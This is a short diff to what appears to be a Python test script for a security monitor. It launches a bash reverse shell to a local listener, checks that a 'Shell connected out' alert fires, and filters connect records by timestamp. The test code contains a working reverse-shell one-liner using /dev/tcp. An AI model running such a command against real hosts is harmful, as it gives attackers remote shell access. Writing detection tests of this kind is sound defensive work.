@@ -284,6 +284,9 @@ def main():
         ls, lt, got = shell_listener()
         port = ls.getsockname()[1]
         start = time.monotonic()
+        # the kernel picks the listener's port from the ephemeral range, where
+        # the scans above may have tried it: only attempts from now on count
+        start_real_ns = time.time_ns()
         rs = subprocess.Popen(["/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         rs.wait(15)
@@ -293,7 +296,8 @@ def main():
         a, t = wait_alert(s, lambda a: a.get("rule") == "Shell connected out" and str(port) in a.get("output", ""),
                           start, 2, "reverse shell alert")
         results.append(("reverse shell", t, 2))
-        shells = [c for c in s.records() if c.get("type") == "connect" and c.get("net", {}).get("port") == port]
+        shells = [c for c in s.records() if c.get("type") == "connect" and c.get("net", {}).get("port") == port
+                  and c["net"].get("attempt_ns", 0) >= start_real_ns]
         if len(shells) != 1 or shells[0]["pid"] != a.get("pid") or shells[0]["net"]["outcome"] != "connected":
             fail(f"connect records to the listener: {[(c['pid'], c['net']) for c in shells]}, alert pid {a.get('pid')}")
         log(f"d. reverse shell: {a['rule']!r} at {a['priority']} on pid {a['pid']} in {t:.1f} s")
